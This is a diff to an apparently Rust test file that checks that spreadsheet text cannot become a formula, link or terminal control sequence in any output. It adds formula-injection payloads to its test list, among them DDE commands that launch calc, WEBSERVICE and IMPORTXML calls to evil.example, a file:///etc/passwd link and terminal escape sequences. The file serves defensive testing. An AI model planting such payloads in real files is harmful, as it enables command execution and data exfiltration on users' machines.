@@ -1,5 +1,6 @@
 //! Text of a return stays text: no formula, link or control sequence comes out of it, wherever it goes.
 
+use std::collections::BTreeSet;
 use std::io::{Cursor, Read as _};
 
 use serde_json::Value;
@@ -9,11 +10,17 @@ use crate::folder::Folder;
 use crate::made::Parts;
 
 /// What is put into every cell that takes text.
-const PAYLOADS: &[&str] = &[
+pub const PAYLOADS: &[&str] = &[
     "=1+1",
     "+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1)",
+    "=cmd|' /C calc'!A0",
+    "=DDE(\"cmd\";\"/C calc\";\"1\")",
+    "+1+cmd|' /C calc'!A0",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1\";=1+1",
     "＝1+1",
     "＋1+1",
     "－2+3",
@@ -24,11 +31,17 @@ const PAYLOADS: &[&str] = &[
     "  =1+1",
     "\u{a0}=1+1",
     "_x003D_1+1",
+    "_x005F_x003D_1+1",
+    "_x005F_x0009_=1+1",
     "_x0009__x003D_1+1",
     "=HYPERLINK(\"http://evil.example\",\"x\")",
     "http://evil.example/x",
     "mailto:evil@evil.example",
     "file:///etc/passwd",
+    "\\\\server\\share\\x.xlsx",
+    "=WEBSERVICE(\"http://evil.example\")",
+    "=IMPORTXML(\"http://evil.example\",\"//a\")",
+    "sep=;",
     "_x001B_[31mred",
     "_x001B_]8;;http://evil.example_x0007_link_x001B_]8;;_x0007_",
     "_x0000_=1+1",
@@ -37,8 +50,16 @@ const PAYLOADS: &[&str] = &[
     "\u{2066}=1+1",
     "\u{feff}=1+1",
     "\u{200b}=1+1",
+    "\u{ad}=1+1",
+    "\u{2060}\t=1+1",
+    "\u{3000}＝1+1",
     "',\"\"=1+1",
     "\"\r\n=1+1",
+    "\",=1+1,\"",
+    "x\",\"=1+1",
+    "x\n=1+1",
+    "'=1+1",
+    "\"=1+1\"",
     "a;=1+1",
     "{=1+1}",
     "<script>alert(1)</script>",
@@ -100,15 +121,18 @@ fn cover() -> String {
     )
 }
 
-fn laid() -> Folder {
+pub fn laid() -> Folder {
     let folder = Folder::new();
     let name = crate::cases::escape("=cmd|' /C calc'!A0 \u{202E}").replace('\'', "&apos;");
     let parts = Parts::sheets(&[
         (&name, "", "worksheet", &hostile().xml()),
         ("@Narrative", "", "worksheet", &cover()),
+        ("=HYPERLINK(1)", "", "worksheet", &cover()),
     ]);
     folder.write("returns/=1+1,@x.xlsx", &parts.bytes());
     folder.write("returns/-2+3.pdf", b"%PDF-1.4");
+    folder.write("returns/@SUM(1).xlsx", b"PK");
+    folder.write("returns/＝1+1.csv", b"=1+1,sep=;\r\n");
     #[cfg(unix)]
     folder.write(
         "returns/\u{1b}[31m\u{1b}]8;;http:x\u{7}\u{202E}.xlsx",
@@ -118,7 +142,7 @@ fn laid() -> Folder {
 }
 
 /// Characters that steer a terminal, or turn or hide what stands around them.
-fn steers(c: char) -> bool {
+pub fn steers(c: char) -> bool {
     (c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
         || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
 }
@@ -168,8 +192,35 @@ fn text_of_a_return_stays_text_in_every_output() {
     let report: Value = serde_json::from_str(&ran.out).unwrap();
     assert_eq!(
         report["files"].as_array().unwrap().len(),
-        if cfg!(unix) { 4 } else { 3 }
+        if cfg!(unix) { 6 } else { 5 }
     );
+    // In JSON a text is what it was, whatever it is.
+    let files = report["files"].as_array().unwrap().iter();
+    let findings = files.flat_map(|file| file["findings"].as_array().unwrap());
+    let found: BTreeSet<&str> = findings.filter_map(|own| own["found"].as_str()).collect();
+    for payload in PAYLOADS {
+        let payload = decoded(payload).replace("\r\n", "\n").replace('\r', "\n");
+        assert!(
+            found.contains(payload.as_str()),
+            "{payload:?} is not in {found:?}"
+        );
+    }
+}
+
+/// A text of a workbook's part as the workbook means it: `_x003D_` is an equals sign.
+pub fn decoded(text: &str) -> String {
+    let (mut whole, mut rest) = (String::new(), text);
+    while let Some(c) = rest.chars().next() {
+        let escape = rest.strip_prefix("_x").and_then(|escape| {
+            let (digits, after) = escape.split_at_checked(4)?;
+            let code = u32::from_str_radix(digits, 16).ok()?;
+            Some((char::from_u32(code)?, after.strip_prefix('_')?))
+        });
+        let (c, after) = escape.unwrap_or((c, &rest[c.len_utf8()..]));
+        whole.push(c);
+        rest = after;
+    }
+    whole
 }
 
 /// Fields of a CSV, none of which a spreadsheet takes for a formula.
@@ -266,7 +317,7 @@ fn workbook(name: &str, bytes: Vec<u8>) -> usize {
 }
 
 /// A formula without the texts between its quotation marks; a doubled mark ends none.
-fn without_literals(formula: &str) -> String {
+pub fn without_literals(formula: &str) -> String {
     formula
         .replace("&quot;", "\"")
         .split('"')
